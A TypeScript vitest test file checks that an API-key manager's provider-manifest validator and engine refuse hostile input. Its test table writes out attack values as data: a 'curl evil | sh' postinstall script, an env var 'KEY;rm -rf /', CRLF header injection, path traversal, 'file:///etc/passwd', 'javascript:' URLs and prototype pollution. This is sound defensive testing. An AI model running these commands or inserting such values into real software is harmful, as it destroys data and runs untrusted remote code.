import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { ADAPTERS, BUILTIN_PROVIDERS } from '../../electron/core/providers/index.js';
import { adapterFromManifest, valueAt } from '../../electron/core/providers/manifest/engine.js';
import { readManifest } from '../../electron/core/providers/manifest/read.js';
import { ProviderManifest } from '../../electron/core/providers/manifest/schema.js';
import type { HttpRequest, HttpResponse } from '../../electron/core/http/client.js';
import { failure } from '../integration/helpers/fail.js';

/** The Tollgate manifest (the sixth provider of the tests), as a person would write it. */
const BASE = JSON.parse(readFileSync(new URL('../fixtures/tollgate.manifest.json', import.meta.url), 'utf8')) as Record<
  string,
  unknown
>;
const OTHERS = { ids: [], builtinIds: Object.keys(ADAPTERS), formats: BUILTIN_PROVIDERS.formats() };

/** A manifest as the hostile edits below see it: any field, any type (they write what a schema would refuse). */
// eslint-disable-next-line @typescript-eslint/no-explicit-any -- the point is to write what the types forbid
type Editable = Record<string, any>;

/** A copy of the manifest with one change made by `edit`. */
function variant(edit: (m: Editable) => void): string {
  const m = structuredClone(BASE) as Editable;
  edit(m);
  return JSON.stringify(m);
}

const problemsOf = (text: string) => {
  const r = readManifest(text, OTHERS);
  return r.ok ? [] : r.problems;
};

describe('the manifest schema: a table of hostile manifests, each refused at its field', () => {
  it('accepts the fixture', () => {
    expect(problemsOf(JSON.stringify(BASE))).toEqual([]);
  });

  const hostile: [string, string, (m: Editable) => void][] = [
    ['plain http to a remote host', 'baseUrl.default', (m) => (m.baseUrl.default = 'http://api.tollgate.example/v2')],
    ['credentials in the base URL', 'baseUrl.default', (m) => (m.baseUrl.default = 'https://u:p@api.tollgate.example')],
    ['a file: base URL', 'baseUrl.default', (m) => (m.baseUrl.default = 'file:///etc/passwd')],
    ['a query in the base URL', 'baseUrl.default', (m) => (m.baseUrl.default = 'https://api.tollgate.example/?x=1')],
    ['CRLF in the auth header name', 'auth.header', (m) => (m.auth.header = 'X-Key\r\nHost: evil.example')],
    ['a header Keydeck sets itself', 'auth.header', (m) => (m.auth.header = 'Host')],
    ['a cookie header', 'auth.header', (m) => (m.auth.header = 'Cookie')],
    ['a space in the scheme', 'auth.scheme', (m) => (m.auth.scheme = 'Bearer x')],
    ['Basic outside Authorization', 'auth.header', (m) => (m.auth.basic = 'username')],
    ['path traversal', 'calls.verify.path', (m) => (m.calls.verify.path = '/../admin')],
    ['a protocol-relative path', 'calls.verify.path', (m) => (m.calls.verify.path = '//evil.example/x')],
    ['an absolute URL as a path', 'calls.verify.path', (m) => (m.calls.verify.path = 'https://evil.example/whoami')],
    ['a fragment in a path', 'calls.verify.path', (m) => (m.calls.verify.path = '/whoami#x')],
    ['a percent-escape in a path', 'calls.revoke.path', (m) => (m.calls.revoke.path = '/keys/%2e%2e/{key_id}')],
    ['a placeholder Keydeck does not have', 'calls.verify.path', (m) => (m.calls.verify.path = '/whoami/{secret}')],
    ['{key_id} outside revoke', 'calls.list.path', (m) => (m.calls.list.path = '/keys/{key_id}')],
    ['revoke without {key_id}', 'calls.revoke.path', (m) => (m.calls.revoke.path = '/keys')],
    ['{name} in a revoke body', 'calls.revoke.body', (m) => (m.calls.revoke.body = { why: '{name}' })],
    [
      '__proto__ as a field path',
      'calls.verify.success.required[0]',
      (m) => (m.calls.verify.success.required = ['__proto__.x']),
    ],
    ['constructor as a field path', 'calls.list.fields.id', (m) => (m.calls.list.fields.id = 'constructor')],
    ['a field path that is a regular expression', 'calls.list.items', (m) => (m.calls.list.items = 'data.(a+)+')],
    ['a charset that is a regular expression', 'keys[0].charset', (m) => (m.keys[0].charset = '[a-z]+.*')],
    ['a prefix with regex characters', 'keys[0].prefix', (m) => (m.keys[0].prefix = 'tg.*')],
    ['a prefix of a built-in provider', 'keys[0].prefix', (m) => (m.keys[0].prefix = 'sk_live_x')],
    ['a prefix shorter than a built-in one it overlaps', 'keys[0].prefix', (m) => (m.keys[0].prefix = 'lgh')],
    ['prefixes that overlap each other', 'keys[1].prefix', (m) => (m.keys[1].prefix = 'tollgate_live_x')],
    ['a built-in id', 'id', (m) => (m.id = 'skapi')],
    ['an id with a slash', 'id', (m) => (m.id = '../laghav')],
    ['a bidi override in the name', 'displayName', (m) => (m.displayName = 'Toll\u202egate')],
    ['a zero-width character in the name', 'displayName', (m) => (m.displayName = 'Legba\u200b')],
    ['a Cyrillic look-alike in the name', 'displayName', (m) => (m.displayName = 'L\u0435gba')],
    ['a revoke by GET (a read that answers 200)', 'calls.revoke.method', (m) => (m.calls.revoke.method = 'GET')],
    ['a newline in a note', 'notes[0]', (m) => (m.notes = ['a\nb'])],
    ['an env var that is shell code', 'envVar', (m) => (m.envVar = 'KEY;rm -rf /')],
    ['a javascript: dashboard', 'dashboard.url', (m) => (m.dashboard.url = 'javascript:alert(1)')],
    ['a dashboard host it does not own', 'dashboard.hosts[0]', (m) => (m.dashboard.hosts = ['*.evil.example'])],
    ['a wildcard over a whole TLD', 'dashboard.hosts[0]', (m) => (m.dashboard.hosts = ['*.example'])],
    ['the parent of its own host', 'dashboard.hosts[0]', (m) => (m.dashboard.hosts = ['tollgate.example'])],
    ['a wildcard in the middle', 'dashboard.hosts[0]', (m) => (m.dashboard.hosts = ['a.*.tollgate.example'])],
    ['a misspelt field', 'calls.verify', (m) => (m.calls.verify.sucess = {})],
    ['an unknown top-level field', '', (m) => (m.scripts = { postinstall: 'curl evil | sh' })],
    ['an environment it does not have', 'keys[1].environment', (m) => (m.environments = ['live'])],
    [
      'a status outside 2xx as success',
      'calls.verify.success.status[0]',
      (m) => (m.calls.verify.success.status = [302]),
    ],
    ['too many notes', 'notes', (m) => (m.notes = Array.from({ length: 21 }, () => 'n'))],
    [
      'a second path parameter',
      'pathParameters',
      (m) => (m.pathParameters = [1, 2].map((i) => ({ name: `p${i}`, label: 'P' }))),
    ],
    [
      'a pagination that sends the key elsewhere',
      'calls.list.pagination.param',
      (m) => (m.calls.list.pagination = { style: 'cursor', param: 'a=b&c', next: 'n' }),
    ],
    ['the wrong manifest version', 'manifestVersion', (m) => (m.manifestVersion = 2)],
    ['a header Keydeck sends itself (Accept)', 'auth.header', (m) => (m.auth.header = 'Accept')],
    ['a fixed header that carries a key', 'headers.Authorization', (m) => (m.headers = { Authorization: 'Bearer x' })],
    ['a fixed header over the auth header', 'headers.X-Tollgate-Key', (m) => (m.headers = { 'X-Tollgate-Key': 'x' })],
    ['CRLF in a fixed header value', 'headers.Api-Version', (m) => (m.headers = { 'Api-Version': '1\r\nHost: evil' })],
    ['a key in PATH', 'envVar', (m) => (m.envVar = 'PATH')],
    ['a key in LD_PRELOAD', 'envVar', (m) => (m.envVar = 'LD_PRELOAD')],
    [
      'a 5xx that "proves" a key dead',
      'errors.rules[0].means',
      (m) => (m.errors.rules = [{ status: 503, means: 'revoked' }]),
    ],
    [
      'a 429 that "proves" a key dead',
      'errors.rules[0].means',
      (m) => (m.errors.rules = [{ status: 429, means: 'invalid' }]),
    ],
    [
      'a nested form body',
      'calls.create.body.meta',
      (m) => ((m.calls.create.bodyEncoding = 'form'), (m.calls.create.body = { meta: { a: 1 } })),
    ],
  ];
  it.each(hostile)('refuses %s (at %s)', (_what, path, edit) => {
    const problems = problemsOf(variant(edit));
    expect(problems.length).toBeGreaterThan(0);
    expect(problems.map((p) => p.path)).toContain(path);
  });

  it('refuses a __proto__ key in the JSON itself (no prototype is touched)', () => {
    const text = JSON.stringify(BASE).replace('"manifestVersion"', '"__proto__":{"polluted":true},"manifestVersion"');
    expect(problemsOf(text)).toEqual([{ path: '', message: expect.stringContaining('"__proto__"') }]);
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
  });

  it('refuses a manifest that holds a key, wherever it is; reads one saved with a byte-order mark', () => {
    const withKey = variant((m) => (m.headers = { 'X-Example': `tollgate_live_${'k'.repeat(32)}` }));
    expect(problemsOf(withKey)).toEqual([
      { path: 'headers.X-Example', message: expect.stringContaining('shaped like an API key') },
    ]);
    const builtin = variant((m) => (m.notes = [`try sk_live_${'a'.repeat(24)}`]));
    expect(problemsOf(builtin).map((p) => p.path)).toEqual(['notes[0]']);
    expect(problemsOf(`\uFEFF${JSON.stringify(BASE)}`)).toEqual([]);
  });

  it('says a missing field is missing', () => {
    expect(problemsOf(variant((m) => delete m.envVar))).toEqual([
      { path: 'envVar', message: 'missing: this field is required' },
    ]);
  });

  it('refuses a file nested thousands of levels deep with a clear problem (no stack overflow)', () => {
    const deep = variant((m) => (m.calls.create.body = { x: JSON.parse(`${'['.repeat(3000)}${']'.repeat(3000)}`) }));
    expect(problemsOf(deep)).toEqual([
      { path: '', message: expect.stringContaining('nested more than 12 levels deep') },
    ]);
  });

  it('refuses what is not JSON, and a file over 64 KB, before reading it', () => {
    expect(problemsOf('{ "id": ')[0]).toMatchObject({ path: '', message: expect.stringContaining('not valid JSON') });
    expect(problemsOf('# a YAML file\nid: acme')[0]?.message).toContain('not valid JSON');
    const huge = variant((m) => (m.notes = ['x'.repeat(70_000)]));
    expect(problemsOf(huge)).toEqual([{ path: '', message: expect.stringContaining('at most 64 KB') }]);
  });

  it('says where each problem is, many at once (a person fixes them in one go)', () => {
    const problems = problemsOf(
      variant((m) => {
        m.id = 'A';
        m.envVar = 'lower';
        delete m.calls.verify;
      }),
    );
    expect(problems.map((p) => p.path).sort()).toEqual(['calls.verify', 'envVar', 'id']);
  });

  it('validates every built-in manifest with the same schema as a person’s', () => {
    for (const id of Object.keys(ADAPTERS)) {
      const json = JSON.parse(
        readFileSync(new URL(`../../electron/core/providers/manifests/${id}.json`, import.meta.url), 'utf8'),
      );
      expect(ProviderManifest.safeParse(json).success, id).toBe(true);
    }
  });
});

/** A provider answer, as the HTTP client gives it. */
function answer(status: number, body: unknown, headers: Record<string, string> = {}): HttpResponse {
  const text = body === undefined ? '' : JSON.stringify(body);
  return { status, headers, contentType: text ? 'application/json' : '', text, json: body, invalidJson: false };
}

/** An adapter for a manifest over a scripted provider; every request it sent is kept. */
function scripted(edit: (m: Editable) => void, replies: ((req: HttpRequest) => HttpResponse)[]) {
  const m = ProviderManifest.parse(JSON.parse(variant(edit)));
  const sent: HttpRequest[] = [];
  let i = 0;
  const ctx = {
    baseUrl: 'https://api.tollgate.example/v2',
    secret: `tollgate_live_${'A'.repeat(32)}`,
    http: {
      send: async (req: HttpRequest) => {
        sent.push(req);
        const reply = replies[Math.min(i++, replies.length - 1)];
        if (!reply) throw new Error('no reply scripted');
        return reply(req);
      },
    },
  };
  return { adapter: adapterFromManifest(m), ctx, sent };
}

describe('the manifest engine against hostile and odd answers', () => {
  it('sends the key only in the manifest’s header, and values in paths escaped', async () => {
    const { adapter, ctx, sent } = scripted(() => undefined, [() => answer(204, undefined)]);
    await adapter.revoke?.(ctx, 'a/../b?c');
    expect(sent[0]?.url).toBe('https://api.tollgate.example/v2/keys/a%2F..%2Fb%3Fc');
    expect(sent[0]?.headers).toEqual({ 'x-tollgate-key': ctx.secret, accept: 'application/json' });
  });

  it('verify answers the calling key’s own id where the manifest says the answer names it, and only a usable id', async () => {
    const named = scripted(() => undefined, [() => answer(200, { key_id: 'key_42' })]);
    expect(await named.adapter.verify(named.ctx)).toEqual({ keyId: 'key_42' });
    const hostile = scripted(() => undefined, [() => answer(200, { key_id: '../all' })]);
    expect(await hostile.adapter.verify(hostile.ctx)).toEqual({});
  });

  it('HTTP Basic: the key as the user name', async () => {
    const { adapter, ctx, sent } = scripted(
      (m) => (m.auth = { header: 'Authorization', basic: 'username' }),
      [() => answer(200, { key_id: 'k1' })],
    );
    await adapter.verify(ctx);
    expect(sent[0]?.headers?.authorization).toBe(`Basic ${btoa(`${ctx.secret}:`)}`);
  });

  it('never counts an HTML 200, a 200 without the required field, or an unlisted 2xx as verified', async () => {
    for (const reply of [
      { ...answer(200, undefined), text: '<html>sign in</html>', contentType: 'text/html' },
      answer(200, { other: 1 }),
      answer(202, { key_id: 'k1' }),
    ]) {
      const { adapter, ctx } = scripted(() => undefined, [() => reply]);
      expect((await failure(adapter.verify(ctx))).error.code).toBe('PROVIDER_BAD_RESPONSE');
    }
  });

  it('maps errors by the manifest’s rules, then Keydeck’s defaults, with no key in the message', async () => {
    const secret = `tollgate_live_${'A'.repeat(32)}`;
    const cases: [HttpResponse, string][] = [
      [answer(401, { error: { type: 'token_disabled', detail: `key ${secret} disabled` } }), 'KEY_REVOKED'],
      [answer(401, { error: { type: 'token_unknown' } }), 'KEY_INVALID'],
      [answer(401, {}), 'KEY_INVALID'],
      [answer(403, { error: { type: 'nope' } }), 'PROVIDER_FORBIDDEN'],
      [answer(429, { error: { type: 'slow_down' } }, { 'retry-after': '30' }), 'PROVIDER_RATE_LIMITED'],
      [answer(500, { error: { type: 'boom' } }), 'PROVIDER_ERROR'],
    ];
    for (const [reply, code] of cases) {
      const { adapter, ctx } = scripted(() => undefined, [() => reply]);
      const f = await failure(adapter.verify(ctx));
      expect(f.error.code).toBe(code);
      expect(JSON.stringify(f.error)).not.toContain(secret.slice(14));
    }
  });

  it('refuses a list whose ids could not be addressed, and never reads a prototype', async () => {
    for (const id of ['../../admin', '..', '.']) {
      const bad = scripted(() => undefined, [() => answer(200, { data: { keys: [{ key_id: id }] } })]);
      expect((await failure(bad.adapter.list!(bad.ctx))).error.code).toBe('PROVIDER_BAD_RESPONSE');
    }
    const proto = JSON.parse('{"data":{"keys":[{"key_id":"k1","__proto__":{"label":"pwned"}}]}}') as unknown;
    const ok = scripted(() => undefined, [() => answer(200, proto)]);
    const keys = await ok.adapter.list!(ok.ctx);
    expect(keys).toEqual([expect.objectContaining({ id: 'k1', name: '' })]);
    expect(valueAt({}, 'constructor')).toBeUndefined();
    expect(valueAt([], 'length')).toBeUndefined();
  });

  it('follows pages to their end, stops at a cursor that does not move, and at 50 pages', async () => {
    const page = (ids: string[], next: string | null) => () =>
      answer(200, { data: { keys: ids.map((key_id) => ({ key_id, state: 'enabled' })), next_cursor: next } });
    const two = scripted(() => undefined, [page(['a', 'b'], 'c2'), page(['c'], null)]);
    expect((await two.adapter.list!(two.ctx)).map((k) => k.id)).toEqual(['a', 'b', 'c']);
    expect(two.sent.map((r) => r.url)).toEqual([
      'https://api.tollgate.example/v2/keys?include=disabled',
      'https://api.tollgate.example/v2/keys?include=disabled&cursor=c2',
    ]);
    // A cursor that does not move would be read forever: refused, not taken as the whole list.
    const stuck = scripted(() => undefined, [page(['a'], 'same')]);
    expect((await failure(stuck.adapter.list!(stuck.ctx))).error.message).toContain('repeats one already read');
    expect(stuck.sent).toHaveLength(2);
    let n = 0;
    const endless = scripted(() => undefined, [() => page([`k${n++}`], `c${n}`)()]);
    expect(await endless.adapter.list!(endless.ctx)).toHaveLength(50);
    expect(endless.sent).toHaveLength(50);
  });

  it('a next-page URL on another host, or outside the API path, is never followed (the key would go with it)', async () => {
    for (const next of [
      'https://evil.example/v2/keys?page=2',
      '/v2/../admin/keys',
      'https://api.tollgate.example/admin',
    ]) {
      const { adapter, ctx, sent } = scripted(
        (m) => (m.calls.list.pagination = { style: 'next-url', next: 'links.next' }),
        [() => answer(200, { data: { keys: [{ key_id: 'a' }] }, links: { next } })],
      );
      expect((await failure(adapter.list!(ctx))).error.code).toBe('PROVIDER_BAD_RESPONSE');
      expect(sent).toHaveLength(1);
    }
    const same = scripted(
      (m) => (m.calls.list.pagination = { style: 'next-url', next: 'links.next' }),
      [
        () => answer(200, { data: { keys: [{ key_id: 'a' }] }, links: { next: '/v2/keys?page=2' } }),
        () => answer(200, { data: { keys: [{ key_id: 'b' }] }, links: {} }),
      ],
    );
    expect((await same.adapter.list!(same.ctx)).map((k) => k.id)).toEqual(['a', 'b']);
    expect(same.sent[1]?.url).toBe('https://api.tollgate.example/v2/keys?page=2');
  });

  it('sends fixed headers with every call, and a form body where the manifest says so', async () => {
    const { adapter, ctx, sent } = scripted(
      (m) => {
        m.headers = { 'Tollgate-Version': '2026-01-01' };
        m.calls.create.bodyEncoding = 'form';
        m.calls.create.body = { label: '{name}', ttl: 30, shared: false };
      },
      [() => answer(201, { data: { key: { key_id: 'k1' }, token: `tollgate_live_${'c'.repeat(32)}` } })],
    );
    await adapter.create!(ctx, { name: 'a&b=c' });
    expect(sent[0]?.headers).toMatchObject({ 'tollgate-version': '2026-01-01', 'x-tollgate-key': ctx.secret });
    expect(sent[0]?.form).toEqual({ label: 'a&b=c', ttl: '30', shared: 'false' });
    expect(sent[0]?.json).toBeUndefined();
  });

  it('takes the new key’s prefix, environment and last 4 from its secret, not from the answer', async () => {
    const secret = `tollgate_test_${'b'.repeat(36)}`;
    const { adapter, ctx, sent } = scripted(
      () => undefined,
      [() => answer(201, { data: { key: { key_id: 'k9', label: 'x', state: 'enabled' }, token: secret } })],
    );
    const made = await adapter.create!(ctx, { name: 'CI "deploy"' });
    expect(made).toMatchObject({
      secret,
      key: { id: 'k9', prefix: 'tollgate_test_', environment: 'test', last4: 'bbbb' },
    });
    expect(sent[0]?.json).toEqual({ label: 'CI "deploy"', kind: 'server' });
  });
});
